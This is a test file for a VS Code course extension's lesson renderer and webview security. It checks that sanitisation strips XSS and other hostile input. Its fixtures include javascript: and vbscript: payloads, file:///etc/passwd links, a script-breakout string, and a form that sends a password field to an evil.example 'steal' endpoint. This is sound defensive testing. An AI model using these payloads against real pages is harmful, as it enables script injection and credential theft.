import * as assert from 'assert';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { pageContentSecurityPolicy, pageShellHtml } from '../../../src/common/pageShell';
import { createNonce } from '../../../src/common/random';
import { parseLessonPageMessage } from '../../../src/lessons/lessonMessages';
import { renderLesson } from '../../../src/lessons/renderLesson';
import { checkTryIt } from '../../../src/lessons/tryItCommands';
import { sanitizeLesson } from '../../../src/webview/lesson/sanitizeLesson';

const labels = { misconception: 'M', takeaways: 'T', exam: 'E', note: 'N', tip: 'Ti', warning: 'W', invalidTryIt: 'I' };
const render = (markdown: string, resolveImage: (path: string) => string | undefined = (path) => `https://file+.vscode-resource.test/lesson/${path}`) =>
  renderLesson(markdown, { labels, resolveImage }).html;
/** The page's sanitizer, run in a standards DOM (jsdom) as the webview would run it. */
const purify = createDOMPurify(new JSDOM('').window);
/** The rendered and sanitized lesson as a document, to ask what actually survives. */
const page = (markdown: string) => new JSDOM(sanitizeLesson(purify, render(markdown)).html).window.document;

describe('Lesson security: links', () => {
  for (const href of ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'command:workbench.action.terminal.new', 'file:///etc/passwd', 'vscode:extension/foo', 'data:text/html,<b>x</b>', 'vbscript:msgbox(1)']) {
    it(`renders a ${href.split(':')[0]}: link as dead text, not a link`, () => {
      const document = page(`[click](${href})`);
      assert.strictEqual(document.querySelectorAll('a').length, 0, document.body.innerHTML);
      assert.strictEqual(document.querySelector('.dead-link')?.textContent, 'click');
    });
  }

  it('keeps http(s) and in-page links as links', () => {
    const document = page('[a](https://example.com/x) [b](#section)');
    assert.deepStrictEqual([...document.querySelectorAll('a')].map((link) => link.getAttribute('href')), ['https://example.com/x', '#section']);
  });

  it('turns lesson: links into in-page navigation with the section decoded', () => {
    const link = page('[next](lesson:tokens-embeddings-vectors#Byte%20pair%20encoding)').querySelector('a.lesson-link');
    assert.strictEqual(link?.getAttribute('href'), '#');
    assert.strictEqual(link?.getAttribute('data-lesson'), 'tokens-embeddings-vectors');
    assert.strictEqual(link?.getAttribute('data-section'), 'Byte pair encoding');
  });

  for (const escape of ['%E0%A4%A', '%', '%zz', '%C3']) {
    it(`renders a lesson link whose section has the bad escape ${escape} (kept as written) instead of throwing`, () => {
      const html = render(`[bad](lesson:some-lesson#${escape}) and after`);
      const link = new JSDOM(html).window.document.querySelector('a.lesson-link');
      assert.strictEqual(link?.getAttribute('data-section'), escape);
      assert.match(html, /and after/);
    });
  }
});

describe('Lesson security: images', () => {
  it('resolves a relative image through the host', () => {
    const image = page('![a cat](images/cat.png)').querySelector('img');
    assert.strictEqual(image?.getAttribute('src'), 'https://file+.vscode-resource.test/lesson/images/cat.png');
    assert.strictEqual(image?.getAttribute('alt'), 'a cat');
  });

  for (const href of ['https://tracker.example/pixel.png', 'data:image/png;base64,AAAA', 'javascript:alert(1)', 'file:///etc/passwd', 'HTTP://x/y.png']) {
    it(`shows the alt text instead of an image with an absolute ${href.split(':')[0]}: URL`, () => {
      const document = page(`![alt words](${href})`);
      assert.strictEqual(document.querySelectorAll('img').length, 0);
      assert.strictEqual(document.querySelector('.missing-image')?.textContent, 'alt words');
    });
  }

  it('shows the alt text when the host refuses the path', () => {
    const html = render('![x](../../outside.png)', () => undefined);
    assert.doesNotMatch(html, /<img/);
  });
});

describe('Lesson security: raw HTML (sanitizeLesson)', () => {
  it('removes scripts, event handlers and javascript: URLs and says what it removed', () => {
    const result = sanitizeLesson(purify, render('Text.\n\n<script>alert(1)</script>\n\n<img src="x" onerror="alert(1)">\n\n<a href="javascript:alert(1)">x</a>'));
    assert.doesNotMatch(result.html, /<script|onerror|javascript:/i);
    assert.ok(result.removed.includes('script'), result.removed.join());
    assert.ok(result.removed.includes('onerror'), result.removed.join());
  });

  it('removes forms and form controls, with their action', () => {
    const result = sanitizeLesson(purify, render('<form action="https://evil.example/steal"><input name="password"><textarea></textarea><select><option>a</option></select><button formaction="https://evil.example">Go</button></form>'));
    const document = new JSDOM(result.html).window.document;
    assert.strictEqual(document.querySelectorAll('form, input, textarea, select, option').length, 0, result.html);
    assert.doesNotMatch(result.html, /evil\.example/);
    for (const name of ['form', 'input', 'textarea', 'select']) {
      assert.ok(result.removed.includes(name), `${name} reported: ${result.removed.join()}`);
    }
  });

  it('removes base, style, iframe, object and embed', () => {
    const result = sanitizeLesson(purify, '<base href="https://evil.example/"><style>body{display:none}</style><iframe src="https://x"></iframe><object data="x"></object><embed src="x"><p style="color:red">text</p>');
    assert.doesNotMatch(result.html, /<base|<style|<iframe|<object|<embed|style=/i);
    assert.match(result.html, /<p>text<\/p>/);
  });

  it('keeps the try-it buttons and lesson links the renderer makes, and reports nothing for a clean lesson', () => {
    const result = sanitizeLesson(purify, render('# Introduction\n\n[next](lesson:x#y)\n\n```tryit\ncommand: learnGenai.showTokensForText\nlabel: Try\nargs:\n  text: hello\n```\n'));
    const document = new JSDOM(result.html).window.document;
    const button = document.querySelector('button.try-it');
    assert.strictEqual(button?.getAttribute('data-command'), 'learnGenai.showTokensForText');
    assert.ok(button?.getAttribute('data-args'));
    assert.strictEqual(document.querySelector('a.lesson-link')?.getAttribute('data-lesson'), 'x');
    assert.deepStrictEqual(result.removed, []);
  });
});

describe('Lesson security: the course itself', () => {
  it('sanitizes every course lesson with nothing removed, so no course page shows the removal notice', () => {
    const lessonsRoot = path.resolve(__dirname, '..', '..', '..', 'lessons');
    const removals: string[] = [];
    for (const locale of ['en', 'pt-br']) {
      for (const file of readdirSync(path.join(lessonsRoot, locale)).filter((name) => name.endsWith('.md'))) {
        const body = readFileSync(path.join(lessonsRoot, locale, file), 'utf8').replace(/^---[\s\S]*?\n---\n/, '');
        const { removed } = sanitizeLesson(purify, render(body));
        if (removed.length > 0) {
          removals.push(`${locale}/${file}: ${removed.join(', ')}`);
        }
      }
    }
    assert.deepStrictEqual(removals, []);
  });
});

describe('Lesson security: checkTryIt', () => {
  it('accepts an allowed command with valid arguments', () => {
    assert.deepStrictEqual(checkTryIt('learnGenai.showTokensForText', { text: 'hi', encoding: 'o200k_base' }), { command: 'learnGenai.showTokensForText', args: { text: 'hi', encoding: 'o200k_base' } });
    assert.deepStrictEqual(checkTryIt('learnGenai.reviewDue', undefined), { command: 'learnGenai.reviewDue', args: {} });
  });

  for (const command of ['workbench.action.terminal.new', 'vscode.open', '_learnGenai.internal', 'learnGenai.resetProgress', 'constructor', '__proto__', 'toString', 42, undefined]) {
    it(`refuses the command ${String(command)}`, () => {
      assert.strictEqual(checkTryIt(command, {}), undefined);
    });
  }

  it('refuses arguments of the wrong shape', () => {
    assert.strictEqual(checkTryIt('learnGenai.showTokensForText', { text: 5 }), undefined);
    assert.strictEqual(checkTryIt('learnGenai.showTokensForText', { text: 'x', encoding: 'not-an-encoding' }), undefined);
    assert.strictEqual(checkTryIt('learnGenai.showTokensForText', ['x']), undefined);
    assert.strictEqual(checkTryIt('learnGenai.showTokensForText', 'x'), undefined);
    assert.strictEqual(checkTryIt('learnGenai.selectModel', { extra: 1 }), undefined);
    assert.strictEqual(checkTryIt('learnGenai.convertToFewShot', { text: 'x', format: 'html' }), undefined);
  });
});

describe('Lesson security: parseLessonPageMessage', () => {
  it('accepts each well-formed message and copies only its known fields', () => {
    assert.deepStrictEqual(parseLessonPageMessage({ type: 'ready', extra: 1 }), { type: 'ready' });
    assert.deepStrictEqual(parseLessonPageMessage({ type: 'openLesson', lessonId: 'a', section: 'b' }), { type: 'openLesson', lessonId: 'a', section: 'b' });
    assert.deepStrictEqual(parseLessonPageMessage({ type: 'reachedEnd', lessonId: 'a' }), { type: 'reachedEnd', lessonId: 'a' });
    assert.deepStrictEqual(parseLessonPageMessage({ type: 'openQuiz', lessonId: 'a' }), { type: 'openQuiz', lessonId: 'a' });
    assert.deepStrictEqual(parseLessonPageMessage({ type: 'runTryIt', command: 'c', args: { x: 1 } }), { type: 'runTryIt', command: 'c', args: { x: 1 } });
  });

  for (const [why, data] of [
    ['null', null],
    ['a string', 'ready'],
    ['an unknown type', { type: 'deleteEverything' }],
    ['a lesson id that is not a string', { type: 'openLesson', lessonId: 7 }],
    ['a lesson id over 200 characters', { type: 'reachedEnd', lessonId: 'x'.repeat(201) }],
    ['a section that is not a string', { type: 'openLesson', lessonId: 'a', section: {} }],
    ['a try-it without a command', { type: 'runTryIt', args: {} }],
  ] as const) {
    it(`rejects ${why}`, () => {
      assert.strictEqual(parseLessonPageMessage(data), undefined);
    });
  }
});

describe('Page shell: Content-Security-Policy and nonce', () => {
  const shell = (nonce = createNonce()) => pageShellHtml({
    cspSource: 'https://webview.test',
    nonce,
    scriptUri: 'https://webview.test/dist/webview/lesson.js',
    styleUris: ['https://webview.test/media/lesson.css'],
    title: 'A <title>',
    language: 'en',
    initialState: { labels: { next: '"</script><script>alert(1)</script>' } },
  });

  it('allows nothing by default, scripts only by nonce, and no form submission or <base>', () => {
    const directives = new Map(pageContentSecurityPolicy('https://webview.test', 'abc').split('; ').map((part) => {
      const [name, ...values] = part.split(' ');
      return [name, values.join(' ')] as const;
    }));
    assert.strictEqual(directives.get('default-src'), "'none'");
    assert.strictEqual(directives.get('script-src'), "'nonce-abc'");
    assert.strictEqual(directives.get('style-src'), 'https://webview.test');
    assert.strictEqual(directives.get('img-src'), 'https://webview.test data:');
    assert.strictEqual(directives.get('form-action'), "'none'");
    assert.strictEqual(directives.get('base-uri'), "'none'");
    assert.ok(![...directives.values()].some((value) => value.includes('unsafe')), 'no unsafe-inline or unsafe-eval');
  });

  it('puts the policy in the page and the same nonce on its only script', () => {
    const nonce = createNonce();
    const document = new JSDOM(shell(nonce)).window.document;
    const meta = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
    assert.strictEqual(meta?.getAttribute('content'), pageContentSecurityPolicy('https://webview.test', nonce));
    const scripts = document.querySelectorAll('script');
    assert.strictEqual(scripts.length, 1);
    assert.strictEqual(scripts[0].getAttribute('nonce'), nonce);
  });

  it('hands the state over intact in data-state, without letting it close the attribute or open a script', () => {
    const document = new JSDOM(shell()).window.document;
    assert.deepStrictEqual(JSON.parse(document.body.dataset.state ?? ''), { labels: { next: '"</script><script>alert(1)</script>' } });
    assert.strictEqual(document.title, 'A <title>');
  });

  it('makes a fresh 128-bit hexadecimal nonce each time', () => {
    const nonces = new Set(Array.from({ length: 100 }, () => createNonce()));
    assert.strictEqual(nonces.size, 100);
    for (const nonce of nonces) {
      assert.match(nonce, /^[0-9a-f]{32}$/);
    }
  });
});
